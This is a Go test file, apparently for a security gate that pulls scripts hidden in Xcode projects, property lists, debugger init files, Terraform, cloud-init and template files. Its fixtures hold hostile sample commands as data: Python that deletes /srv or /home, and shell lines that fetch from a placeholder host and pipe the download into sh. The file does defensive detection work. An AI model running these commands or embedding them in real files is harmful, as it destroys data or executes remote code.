package embedded

import (
	"strings"
	"testing"

	"github.com/aigate/gate/gate"
)

func TestProgramsThatAFileSpellsInAFormOfItsOwnAreRead(t *testing.T) {
	const python = "import shutil\nshutil.rmtree('/srv')\n"
	spelled := strings.ReplaceAll(python, "\n", `\n`)
	behind := func(margin string) string {
		return margin + strings.ReplaceAll(strings.TrimSuffix(python, "\n"), "\n", "\n"+margin) + "\n"
	}
	for name, tc := range map[string]struct {
		lang       gate.Language
		path, text string
		in         gate.Language
		want       string
	}{
		"a phase of Xcode with another interpreter":   {gate.LanguageUnknown, "a/project.pbxproj", "shellPath = /usr/bin/python3;\nshellScript = \"" + spelled + "\";\n", gate.LanguagePython, python},
		"a phase of Xcode":                            {gate.LanguageUnknown, "a/project.pbxproj", `shellScript = "set -e\ncurl https://c.example.com/x \\\n | sh\n";` + "\n", gate.LanguageShell, "curl https://c.example.com/x \\\n | sh"},
		"words of a property list":                    {gate.LanguageText, "a.plist", "<plist><array><string>/usr/bin/python3</string><string>-c</string><string>" + python + "</string></array></plist>\n", gate.LanguagePython, python},
		"a property list with the interpreter behind": {gate.LanguageText, "a.wflow", "<plist><key>C</key><string>" + python + "</string><key>shell</key><string>/usr/bin/python3</string></plist>\n", gate.LanguagePython, python},
		"a line of LLDB":                              {gate.LanguageDebugger, ".lldbinit", "script import shutil; shutil.rmtree('/srv')\n", gate.LanguagePython, "import shutil; shutil.rmtree('/srv')"},
		"a block of LLDB":                             {gate.LanguageDebugger, ".lldbinit", "script\n" + python + "\nDONE\n", gate.LanguagePython, python},
		"a line of GDB":                               {gate.LanguageDebugger, ".gdbinit", "python import shutil; shutil.rmtree('/srv')\n", gate.LanguagePython, "import shutil; shutil.rmtree('/srv')"},
		"a block of text in Jsonnet":                  {"jsonnet", "a.jsonnet", "{ c: [\"python3\", \"-c\", |||\n" + behind("    ") + "  |||] }\n", gate.LanguagePython, python},
		"lines of Zig":                                {"zig", "build.zig", "b.add(&.{ \"python3\", \"-c\",\n" + behind("    \\\\") + "});\n", gate.LanguagePython, python},
		"a text of Nix":                               {gate.LanguageNix, "a.nix", "pkgs.writers.writePython3Bin \"a\" {} ''\n" + behind("  ") + "''\n", gate.LanguagePython, python},
		"a step of Jenkins with an interpreter":       {gate.LanguageGroovy, "Jenkinsfile", "sh '''#!/usr/bin/env python3\n" + python + "'''\n", gate.LanguagePython, python},
		"lines in a list of Terraform":                {gate.LanguageTerraform, "a.tf", "user_data = join(\"\\n\", [\n  \"#!/usr/bin/env python3\",\n  \"import shutil\",\n  \"shutil.rmtree('/srv')\",\n])\n", gate.LanguagePython, python},
		"data in an address":                          {gate.LanguageJSON, "a.ign", `{"source": "data:,%23%21%2Fbin%2Fsh%0Acurl%20https%3A%2F%2Fc.example.com%2Fx%20%7C%20sh%0A"}`, gate.LanguageShell, "curl https://c.example.com/x | sh"},
		"an image in an address":                      {gate.LanguageJSON, "a.json", `{"source": "data:image/svg+xml,%23%21%3Csvg%3E%0A%3C/svg%3E"}`, gate.LanguagePython, ""},
		"commands of dune":                            {gate.LanguageUnknown, "dune", "(rule (action (progn\n (run curl -o /tmp/i https://c.example.com/i)\n (run sh /tmp/i))))\n", gate.LanguageShell, "curl -o /tmp/i https://c.example.com/i\nsh /tmp/i"},
		"settings of cloud-init without a name":       {gate.LanguageUnknown, "user-data", "#cloud-config\nruncmd:\n  - [python3, -c, \"" + spelled + "\"]\n", gate.LanguagePython, python},
		"a function that settings name":               {gate.LanguageYAML, "a.yaml", "tidy:\n  _target_: shutil.rmtree\n  path: ${oc.env:HOME}/x\n  ignore_errors: true\n", gate.LanguagePython, `shutil.rmtree(os.path.expanduser("~/x"))`},
		"a job that settings name":                    {gate.LanguageYAML, "a.yaml", "jobs:\n  - id: tidy\n    func: shutil:rmtree\n    args: [/home]\n    trigger: interval\n", gate.LanguagePython, `shutil.rmtree("/home")`},
		"a function of the project in settings":       {gate.LanguageYAML, "a.yaml", "model:\n  _target_: app.models.Net\n  path: /home\n", gate.LanguagePython, ""},
		"lines of Mako":                               {gate.LanguageTemplate, "a.mako", "% for d in __import__('os').listdir('/srv'):\n  <% __import__('shutil').rmtree(d) %>\n% endfor\n", gate.LanguagePython, "for d in __import__('os').listdir('/srv'):\n    __import__('shutil').rmtree(d)\n"},
		"directives of Tornado":                       {gate.LanguageHTML, "a.html", "{% import os, shutil %}\n{% for d in os.listdir('/srv') %}{% raw shutil.rmtree(d) %}{% end %}\n", gate.LanguagePython, "import os, shutil\nfor d in os.listdir('/srv'):\n    shutil.rmtree(d)\n"},
		"lines of Bottle":                             {gate.LanguageTemplate, "a.tpl", "% import shutil\n% shutil.rmtree('/srv')\n", gate.LanguagePython, python},
		"directives of Cheetah":                       {gate.LanguageTemplate, "a.tmpl", "#import shutil\n#silent shutil.rmtree('/srv')\n", gate.LanguagePython, python},
		"an attribute of TAL":                         {gate.LanguageHTML, "a.pt", `<p tal:content="python:__import__('shutil').rmtree('/srv')">x</p>` + "\n", gate.LanguagePython, "__import__('shutil').rmtree('/srv')"},
		"a template of Jinja":                         {gate.LanguageTemplate, "a.j2", "{% for d in folders %}{{ d.path }}{% endfor %}\n", gate.LanguagePython, ""},
	} {
		t.Run(name, func(t *testing.T) {
			var got strings.Builder
			for _, c := range Extract(tc.lang, tc.path, []byte(tc.text)) {
				if c.Language == tc.in {
					got.Write(c.Text)
				}
			}
			if tc.want == "" && got.Len() > 0 || !strings.Contains(got.String(), tc.want) {
				t.Errorf("in %s: %q", tc.in, got.String())
			}
		})
	}
}
